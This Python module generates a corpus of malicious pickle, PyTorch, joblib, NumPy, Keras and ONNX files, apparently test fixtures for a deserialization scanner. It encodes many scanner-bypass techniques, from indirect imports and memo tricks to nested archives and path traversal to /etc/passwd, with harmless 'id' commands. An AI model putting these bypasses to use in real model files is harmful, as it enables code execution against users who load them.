"""The malicious half of the corpus: every published bypass class, emitted as raw opcodes.

Nothing here is ever unpickled or loaded. Each sample has a name, a bypass class and the file
name it is written under; payloads only name harmless commands (``id``, ``/tmp/x``).
"""

from __future__ import annotations

import base64
import io
import json
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import containers as ct
from pickle_asm import Asm


@dataclass(frozen=True)
class Sample:
    name: str
    category: str
    filename: str
    build: Callable[[], bytes]
    malicious: bool = True


MALICIOUS: list[Sample] = []


def mal(name: str, category: str, filename: str) -> Callable[[Callable[[], bytes]],
                                                          Callable[[], bytes]]:
    def register(fn: Callable[[], bytes]) -> Callable[[], bytes]:
        MALICIOUS.append(Sample(name, category, filename, fn))
        return fn
    return register


def payload(module: str = "os", name: str = "system", *args: str) -> Asm:
    """``module.name(*args)`` in protocol 2, as the body of a pickle (no STOP)."""
    return Asm().proto(2).call(module, name, *(args or ("id",)))


# --- 1. __reduce__ straight to os / subprocess / builtins -----------------------------------
_DIRECT = [
    ("os_system", "os", "system", ("id",)), ("posix_system", "posix", "system", ("id",)),
    ("nt_system", "nt", "system", ("id",)), ("os_popen", "os", "popen", ("id",)),
    ("os_execv", "os", "execv", ("/bin/sh",)), ("subprocess_check_output", "subprocess",
                                                 "check_output", ("id",)),
    ("subprocess_run", "subprocess", "run", ("id",)),
    ("subprocess_getoutput", "subprocess", "getoutput", ("id",)),
    ("builtins_eval", "builtins", "eval", ("print(1)",)),
    ("builtins_exec", "builtins", "exec", ("print(1)",)),
    ("py2_builtin_eval", "__builtin__", "eval", ("print(1)",)),
    ("builtins_open_write", "builtins", "open", ("/tmp/x", "w")),
    ("pty_spawn", "pty", "spawn", ("/bin/sh",)),
    ("runpy_run_path", "runpy", "run_path", ("/tmp/x.py",)),
    ("shutil_rmtree", "shutil", "rmtree", ("/tmp/x",)),
    ("webbrowser_open", "webbrowser", "open", ("http://example.invalid",)),
    ("timeit_timeit", "timeit", "timeit", ("print(1)",)),
    ("pdb_run", "pdb", "run", ("print(1)",)), ("cprofile_run", "cProfile", "run", ("print(1)",)),
    ("code_interact", "code", "interact", ("",)),
    ("ctypes_cdll", "ctypes", "CDLL", ("/tmp/x.so",)),
    ("pickle_loads_nested", "pickle", "loads", ("cos\nsystem\n(S'id'\ntR.",)),
    ("marshal_loads", "marshal", "loads", ("\xe3",)),
    ("socket_create_connection", "socket", "create_connection", ("example.invalid",)),
    ("asyncio_subprocess", "asyncio", "create_subprocess_shell", ("id",)),
]
for _name, _mod, _fn, _args in _DIRECT:
    mal(_name, "reduce_exec", f"{_name}.pkl")(
        lambda m=_mod, f=_fn, a=_args: payload(m, f, *a).stop().data)


@mal("builtins_compile_then_exec", "reduce_exec", "compile_exec.pkl")
def _compile_exec() -> bytes:
    a = Asm().proto(2).glob("builtins", "exec").mark()
    a.call("builtins", "compile", "print(1)", "<x>", "exec")
    return a.tuple_().reduce().stop().data


@mal("types_functiontype_from_code", "reduce_exec", "functiontype.pkl")
def _function_type() -> bytes:
    a = Asm().proto(2).glob("types", "FunctionType").mark()
    a.call("marshal", "loads", "\xe3").empty_dict().tuple_().reduce()
    return a.empty_tuple().reduce().stop().data


# --- 2. indirect imports ----------------------------------------------------------------------
@mal("importlib_import_module", "indirect_import", "importlib.pkl")
def _importlib() -> bytes:
    a = Asm().proto(2).glob("builtins", "getattr").mark()
    a.call("importlib", "import_module", "os").text("system").tuple_().reduce()
    return a.mark().text("id").tuple_().reduce().stop().data


@mal("dunder_import", "indirect_import", "dunder_import.pkl")
def _dunder_import() -> bytes:
    a = Asm().proto(2).glob("builtins", "getattr").mark()
    a.call("builtins", "__import__", "os").text("system").tuple_().reduce()
    return a.mark().text("id").tuple_().reduce().stop().data


@mal("getattr_on_builtins_module", "indirect_import", "getattr_builtins.pkl")
def _getattr_builtins() -> bytes:
    a = Asm().proto(2).glob("builtins", "getattr").mark()
    a.glob("builtins", "__builtins__").text("eval").tuple_().reduce()
    return a.mark().text("print(1)").tuple_().reduce().stop().data


@mal("operator_attrgetter_chain", "indirect_import", "attrgetter.pkl")
def _attrgetter() -> bytes:
    a = Asm().proto(2).glob("operator", "attrgetter").mark().text("system").tuple_().reduce()
    a.mark().call("importlib", "import_module", "os").tuple_().reduce()
    return a.mark().text("id").tuple_().reduce().stop().data


@mal("operator_methodcaller_chain", "indirect_import", "methodcaller.pkl")
def _methodcaller() -> bytes:
    a = Asm().proto(2).glob("_operator", "methodcaller").mark().text("system").text("id")
    a.tuple_().reduce().mark().call("importlib", "import_module", "os")
    return a.tuple_().reduce().stop().data


@mal("functools_partial", "indirect_import", "partial.pkl")
def _partial() -> bytes:
    a = Asm().proto(2).glob("functools", "partial").mark().glob("os", "system").text("id")
    return a.tuple_().reduce().empty_tuple().reduce().stop().data


@mal("dotted_name_through_allowlisted_module", "indirect_import", "dotted.pkl")
def _dotted() -> bytes:
    a = Asm().proto(4).stack_glob("collections", "OrderedDict.__init__.__globals__")
    return a.stop().data


@mal("ufunc_reconstruct_string_import", "indirect_import", "ufunc_reconstruct.pkl")
def _ufunc() -> bytes:
    a = Asm().proto(2).glob("numpy._core", "_ufunc_reconstruct").mark().text("os")
    a.text("system").tuple_().reduce()
    return a.mark().text("id").tuple_().reduce().stop().data


@mal("copyreg_extension_registry", "indirect_import", "ext_code.pkl")
def _ext() -> bytes:
    return Asm().proto(2).ext1(42).mark().text("id").tuple_().reduce().stop().data


@mal("copyreg_reconstructor_foreign_class", "indirect_import", "reconstructor.pkl")
def _reconstructor() -> bytes:
    a = Asm().proto(2).glob("copyreg", "_reconstructor").mark()
    a.glob("subprocess", "Popen").glob("builtins", "object").none().tuple_().reduce()
    return a.stop().data


@mal("builtins_setattr", "indirect_import", "setattr.pkl")
def _setattr() -> bytes:
    a = Asm().proto(2).glob("builtins", "setattr").mark().glob("collections", "OrderedDict")
    a.text("__reduce__").glob("os", "system").tuple_().reduce()
    return a.stop().data


@mal("build_sets_attributes_of_global", "indirect_import", "build_on_global.pkl")
def _build_global() -> bytes:
    a = Asm().proto(2).glob("collections", "OrderedDict").empty_dict()
    a.text("__reduce_ex__").glob("os", "system").setitem()
    return a.build().stop().data


@mal("allowlisted_class_called_with_args", "indirect_import", "booster_model_file.pkl")
def _booster_file() -> bytes:
    a = Asm().proto(2).glob("lightgbm.basic", "Booster").mark().none().none()
    return a.text("/etc/passwd").tuple_().reduce().stop().data


@mal("inst_opcode_protocol0", "indirect_import", "inst.pkl")
def _inst() -> bytes:
    return Asm().mark().string0("id").inst("os", "system").stop().data


@mal("obj_opcode", "indirect_import", "obj.pkl")
def _obj() -> bytes:
    return Asm().proto(1).mark().glob("subprocess", "Popen").text("id").obj().stop().data


@mal("newobj_subprocess_popen", "indirect_import", "newobj.pkl")
def _newobj() -> bytes:
    a = Asm().proto(2).glob("subprocess", "Popen").mark().text("id").tuple_()
    return a.newobj().stop().data


@mal("newobj_ex_kwargs", "indirect_import", "newobj_ex.pkl")
def _newobj_ex() -> bytes:
    a = Asm().proto(4).stack_glob("subprocess", "Popen").mark().short_text("id").tuple_()
    a.empty_dict().short_text("shell").raw(b"\x88").setitem()
    return a.newobj_ex().stop().data


# --- 3. code runners inside ML libraries ----------------------------------------------------
_ML_RUNNERS = [
    ("numpy_runstring", "numpy.testing._private.utils", "runstring", ("print(1)", "")),
    ("numpy_load_allow_pickle", "numpy", "load", ("/tmp/x.npy",)),
    ("numpy_loadtxt_file_read", "numpy", "loadtxt", ("/etc/passwd",)),
    ("numpy_fromfile", "numpy", "fromfile", ("/etc/shadow",)),
    ("torch_hub_load", "torch.hub", "load", ("evil/repo", "model")),
    ("torch_load_nested", "torch", "load", ("/tmp/x.pt",)),
    ("torch_serialization_load", "torch.serialization", "load", ("/tmp/x.pt",)),
    ("torch_cpp_extension_load_inline", "torch.utils.cpp_extension", "load_inline",
     ("x", "int x;")),
    ("torch_jit_load", "torch.jit", "load", ("/tmp/x.pt",)),
    ("pandas_read_pickle", "pandas", "read_pickle", ("/tmp/x.pkl",)),
    ("pandas_read_csv_file_read", "pandas.io.parsers.readers", "read_csv", ("/etc/passwd",)),
    ("pandas_eval", "pandas.core.computation.eval", "eval", ("1+1",)),
    ("joblib_load_nested", "joblib", "load", ("/tmp/x.joblib",)),
    ("sklearn_fetch_openml", "sklearn.datasets", "fetch_openml", ("x",)),
    ("keras_get_file", "keras.utils", "get_file", ("x", "http://example.invalid/x")),
    ("scipy_io_loadmat", "scipy.io", "loadmat", ("/tmp/x.mat",)),
]
for _name, _mod, _fn, _args in _ML_RUNNERS:
    mal(_name, "ml_code_runner", f"{_name}.pkl")(
        lambda m=_mod, f=_fn, a=_args: payload(m, f, *a).stop().data)


# --- 4. memo and stack confusion ------------------------------------------------------------
@mal("names_staged_through_memo", "memo_stack_confusion", "memo_names.pkl")
def _memo_names() -> bytes:
    a = Asm().proto(4).short_text("numpy").memoize().short_text("dtype").memoize().pop().pop()
    a.short_text("os").binput(0).pop().short_text("system").binput(1).pop()
    a.binget(0).binget(1).raw(b"\x93")
    return a.mark().short_text("id").tuple_().reduce().stop().data


@mal("memoize_index_overwrite", "memo_stack_confusion", "memoize_overwrite.pkl")
def _memoize_overwrite() -> bytes:
    a = Asm().proto(4).short_text("builtins").memoize().short_text("set").memoize()
    a.short_text("exec").long_binput(1).pop().pop().pop()
    a.binget(0).binget(1).raw(b"\x93").mark().short_text("print(1)").tuple_().reduce()
    return a.stop().data


@mal("dup_pop_stack_games", "memo_stack_confusion", "dup_pop.pkl")
def _dup_pop() -> bytes:
    a = Asm().proto(4).short_text("numpy").short_text("dtype").pop().pop()
    a.short_text("subprocess").dup().pop().short_text("getoutput").raw(b"\x93")
    return a.mark().short_text("id").tuple_().reduce().stop().data


@mal("callable_fetched_from_memo", "memo_stack_confusion", "memo_callable.pkl")
def _memo_callable() -> bytes:
    a = Asm().proto(2).glob("os", "system").binput(7).pop().empty_list()
    a.binget(7).mark().text("id").tuple_().reduce().raw(b"a")
    return a.stop().data


@mal("pop_mark_hides_nothing", "memo_stack_confusion", "pop_mark.pkl")
def _pop_mark() -> bytes:
    a = Asm().proto(2).mark().glob("numpy", "dtype").text("f8").pop_mark()
    a.glob("posix", "system").mark().text("id").tuple_().reduce()
    return a.stop().data


@mal("protocol0_put_get", "memo_stack_confusion", "put_get0.pkl")
def _put_get0() -> bytes:
    a = Asm().glob("os", "system").put0(3).pop().get0(3).mark().string0("id").tuple_()
    return a.reduce().stop().data


@mal("payload_before_invalid_opcode", "memo_stack_confusion", "invalid_opcode.pkl")
def _invalid_opcode() -> bytes:
    return payload().raw(b"\xff\xfe").stop().data


@mal("payload_before_bad_memo_get", "memo_stack_confusion", "bad_memo.pkl")
def _bad_memo() -> bytes:
    return payload().binget(99).stop().data


@mal("payload_in_second_pickle", "memo_stack_confusion", "second_pickle.pkl")
def _second_pickle() -> bytes:
    return Asm().proto(2).empty_dict().stop().data + payload().stop().data


@mal("misplaced_proto", "memo_stack_confusion", "misplaced_proto.pkl")
def _misplaced_proto() -> bytes:
    return Asm().proto(2).empty_list().pop().proto(4).stack_glob("os", "system").mark() \
        .short_text("id").tuple_().reduce().stop().data


# --- 5. every protocol -------------------------------------------------------------------------
@mal("protocol0_text", "protocol_variants", "proto0.pkl")
def _p0() -> bytes:
    return Asm().glob("os", "system").mark().unicode0("id").tuple_().reduce().stop().data


@mal("protocol1_binary", "protocol_variants", "proto1.pkl")
def _p1() -> bytes:
    return Asm().glob("os", "system").mark().text("id").tuple_().reduce().stop().data


@mal("protocol3_bytes", "protocol_variants", "proto3.pkl")
def _p3() -> bytes:
    a = Asm().proto(3).glob("builtins", "exec").mark().binbytes(b"print(1)")
    return a.tuple_().reduce().stop().data


def _framed(body: Asm) -> bytes:
    inner = body.stop().data
    return Asm().proto(4).frame(len(inner)).raw(inner).data


@mal("protocol4_stack_global_frame", "protocol_variants", "proto4.pkl")
def _p4() -> bytes:
    return _framed(Asm().stack_glob("os", "system").short_text("id").tuple1().reduce())


@mal("protocol5_bytearray", "protocol_variants", "proto5.pkl")
def _p5() -> bytes:
    a = Asm().proto(5).stack_glob("builtins", "exec").bytearray8(b"print(1)").tuple1()
    return a.reduce().stop().data


# --- 6. pickles nested in archives ----------------------------------------------------------
@mal("torch_zip_data_pkl", "nested_archive", "model_zip.pt")
def _torch_zip() -> bytes:
    return ct.torch_zip(payload().stop().data, {"0": b"\x00" * 16})


@mal("torch_zip_extra_pickle_member", "nested_archive", "model_extra.pt")
def _torch_extra() -> bytes:
    benign = Asm().proto(2).empty_dict().stop().data
    return ct.torch_zip(benign, {}, extra={"constants.pkl": payload().stop().data})


@mal("torch_zip_foreign_persistent_id", "nested_archive", "model_pid.pt")
def _torch_pid() -> bytes:
    a = Asm().proto(2).mark().text("module").glob("os", "system").text("id").tuple_()
    return ct.torch_zip(a.binpersid().stop().data, {})


@mal("torch_legacy_payload", "nested_archive", "legacy.pt")
def _torch_legacy() -> bytes:
    return ct.legacy_torch(payload().stop().data, ["0"], b"\x00" * 16)


@mal("torch_legacy_tar", "nested_archive", "legacy_tar.pt")
def _torch_tar() -> bytes:
    return ct.tar_of({"sys_info": Asm().proto(2).empty_dict().stop().data,
                      "pickle": payload().stop().data})


@mal("npy_object_array_pickle", "nested_archive", "object.npy")
def _npy_object() -> bytes:
    return ct.npy_header("|O", (1,)) + payload().stop().data


@mal("npz_object_member", "nested_archive", "arrays.npz")
def _npz_object() -> bytes:
    safe = ct.npy_header("<f8", (2,)) + b"\x00" * 16
    return ct.zip_of({"w.npy": safe, "b.npy": ct.npy_header("|O", (1,)) + payload().stop().data})


@mal("zip_in_zip", "nested_archive", "bundle.zip")
def _zip_in_zip() -> bytes:
    return ct.zip_of({"inner.zip": ct.zip_of({"model.pkl": payload().stop().data})})


@mal("pickle_zip_polyglot", "nested_archive", "polyglot.pt")
def _polyglot() -> bytes:
    return payload().stop().data + ct.zip_of({"archive/data.pkl": Asm().proto(2).none()
                                               .stop().data})


@mal("renamed_pickle_as_bin", "nested_archive", "pytorch_model.bin")
def _renamed() -> bytes:
    return payload("subprocess", "getoutput").stop().data


@mal("gzip_pickle", "nested_archive", "model.pkl.gz")
def _gzip() -> bytes:
    import gzip
    return gzip.compress(payload().stop().data)


# --- 7. joblib wrappers ------------------------------------------------------------------------
@mal("joblib_object_array_nested_pickle", "joblib_wrapper", "object_array.joblib")
def _jl_object() -> bytes:
    a = Asm().proto(4).empty_list()
    ct.joblib_wrapper(a, "O8", (1,), align=False)
    return a.raw(payload().stop().data).raw(b"a").stop().data


@mal("joblib_payload_after_array_bytes", "joblib_wrapper", "after_array.joblib")
def _jl_after() -> bytes:
    a = Asm().proto(4).empty_list()
    ct.joblib_wrapper(a, "i8", (3,))
    a.raw(ct.joblib_padding(len(a.data))).raw(b"." * 24).raw(b"a")
    a.stack_glob("os", "system").short_text("id").tuple1().reduce().raw(b"a")
    return a.stop().data


def _joblib_plain() -> bytes:
    return _jl_after()


for _codec, _ext in (("zlib", "z"), ("xz", "xz"), ("bz2", "bz2"), ("lzma", "lzma")):
    def _compressed(codec: str = _codec) -> bytes:
        import bz2
        import lzma
        raw = _joblib_plain()
        if codec == "zlib":
            return zlib.compress(raw)
        if codec == "bz2":
            return bz2.compress(raw)
        fmt = lzma.FORMAT_XZ if codec == "xz" else lzma.FORMAT_ALONE
        return lzma.compress(raw, format=fmt)
    mal(f"joblib_compressed_{_codec}", "joblib_wrapper", f"model.joblib.{_ext}")(_compressed)


@mal("joblib_legacy_ndarraywrapper_side_file", "joblib_wrapper", "legacy.joblib")
def _jl_legacy() -> bytes:
    a = Asm().proto(2).glob("joblib.numpy_pickle_compat", "NDArrayWrapper").empty_tuple()
    a.newobj().empty_dict().text("filename").text("../../tmp/evil.npy").setitem()
    return a.build().stop().data


# --- 8. Keras and ONNX -------------------------------------------------------------------------
def _keras_zip(layer: dict[str, object]) -> bytes:
    config = {"module": "keras", "class_name": "Sequential",
              "config": {"name": "m", "layers": [layer]}}
    return ct.zip_of({"config.json": json.dumps(config).encode(),
                      "metadata.json": b'{"keras_version": "3.5.0"}'})


@mal("keras_lambda_bytecode", "keras_onnx", "lambda.keras")
def _keras_lambda() -> bytes:
    code = base64.b64encode(b"\xe3" + b"\x00" * 30).decode()
    return _keras_zip({"module": "keras.layers", "class_name": "Lambda", "config": {
        "name": "l", "function": {"class_name": "__lambda__", "config": {"code": code}}}})


@mal("keras_config_module_import", "keras_onnx", "module_import.keras")
def _keras_module() -> bytes:
    return _keras_zip({"module": "keras.layers", "class_name": "Dense", "config": {
        "units": 1, "activation": {"module": "builtins", "class_name": "function",
                                   "config": "exec", "registered_name": "function"}}})


@mal("hdf5_lambda_model_config", "keras_onnx", "lambda.h5")
def _h5_lambda() -> bytes:
    import h5py
    config = {"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda",
              "config": {"function": [base64.b64encode(b"\xe3").decode(), None, None]}}]}}
    buf = io.BytesIO()
    with h5py.File(buf, "w") as handle:
        handle.attrs["model_config"] = json.dumps(config)
    return buf.getvalue()


def _onnx_model(location: str | None, domain: str = "", op: str = "Relu") -> bytes:
    import onnx
    from onnx import TensorProto, helper
    weight = helper.make_tensor("w", TensorProto.FLOAT, [1], [0.0])
    if location is not None:
        weight.ClearField("float_data")
        weight.data_location = TensorProto.EXTERNAL
        for key, value in (("location", location), ("offset", "0"), ("length", "4")):
            entry = weight.external_data.add()
            entry.key, entry.value = key, value
    node = helper.make_node(op, ["x"], ["y"], domain=domain, name="n0")
    graph = helper.make_graph([node], "g", [helper.make_tensor_value_info(
        "x", TensorProto.FLOAT, [1])], [helper.make_tensor_value_info(
        "y", TensorProto.FLOAT, [1])], initializer=[weight])
    opsets = [helper.make_opsetid("", 17)] + ([helper.make_opsetid(domain, 1)] if domain else [])
    return onnx.helper.make_model(graph, opset_imports=opsets).SerializeToString()


@mal("onnx_external_data_traversal", "keras_onnx", "traversal.onnx")
def _onnx_traversal() -> bytes:
    return _onnx_model("../../../../etc/passwd")


@mal("onnx_pyop_custom_domain", "keras_onnx", "pyop.onnx")
def _onnx_pyop() -> bytes:
    return _onnx_model(None, domain="ai.onnx.contrib", op="PyOp")
